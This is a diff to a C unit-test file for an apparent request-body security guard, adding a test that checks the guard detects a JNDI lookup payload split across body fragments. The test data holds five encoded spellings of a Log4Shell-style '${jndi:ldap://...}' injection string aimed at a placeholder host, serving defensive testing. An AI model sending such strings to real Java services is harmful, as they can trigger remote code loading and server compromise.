@@ -165,6 +165,33 @@ static void test_charsets(void **state)
     probe_done(&p);
 }
 
+/* A body that lies in pieces is clean when it is clean as one, wherever it is cut. */
+static void test_clean_in_pieces(void **state)
+{
+    static const char *const spellings[] = {
+        "${jndi:ldap://a.example/x}", "%2524%257Bjndi:ldap://a.example/x%7d",
+        "\\u0024\\u007bjndi:ldap://a.example/x}", "&amp;#36;&lbrace;jndi:ldap://a.example/x}",
+        "JHtqbmRpOmxkYXA6Ly9hLmV4YW1wbGUveH0="};
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    probe_begin(&p);
+    for (size_t i = 0; i <= ARRAY_LEN(spellings); i++) {
+        char body[2000];
+        bool clean = i == ARRAY_LEN(spellings);
+        memset(body, 'a', sizeof body);
+        if (!clean)
+            memcpy(body + 900, spellings[i], strlen(spellings[i]));
+        for (size_t cut = 0; cut <= 1200; cut++) {
+            struct slice pieces[] = {slice_of(body, cut), slice_of(body + cut, 100),
+                                     slice_of(body + cut + 100, sizeof body - cut - 100)};
+            assert_int_equal(guard_body_clean_pieces(&p.q, pieces, 3), clean && cut > 3);
+        }
+    }
+    probe_end(&p);
+    probe_done(&p);
+}
+
 static void test_body_limit(void **state)
 {
     struct probe p;
@@ -598,12 +625,19 @@ static void test_credit_grows(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_codings),        cmocka_unit_test(test_broken_codings),
-        cmocka_unit_test(test_charsets),       cmocka_unit_test(test_body_limit),
-        cmocka_unit_test(test_bomb),           cmocka_unit_test(test_clean_takes_no_memory),
-        cmocka_unit_test(test_memory_refused), cmocka_unit_test(test_excluded),
-        cmocka_unit_test(test_callbacks),      cmocka_unit_test(test_clients),
-        cmocka_unit_test(test_patterns),       cmocka_unit_test(test_credit),
+        cmocka_unit_test(test_codings),
+        cmocka_unit_test(test_broken_codings),
+        cmocka_unit_test(test_charsets),
+        cmocka_unit_test(test_clean_in_pieces),
+        cmocka_unit_test(test_body_limit),
+        cmocka_unit_test(test_bomb),
+        cmocka_unit_test(test_clean_takes_no_memory),
+        cmocka_unit_test(test_memory_refused),
+        cmocka_unit_test(test_excluded),
+        cmocka_unit_test(test_callbacks),
+        cmocka_unit_test(test_clients),
+        cmocka_unit_test(test_patterns),
+        cmocka_unit_test(test_credit),
         cmocka_unit_test(test_credit_grows),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
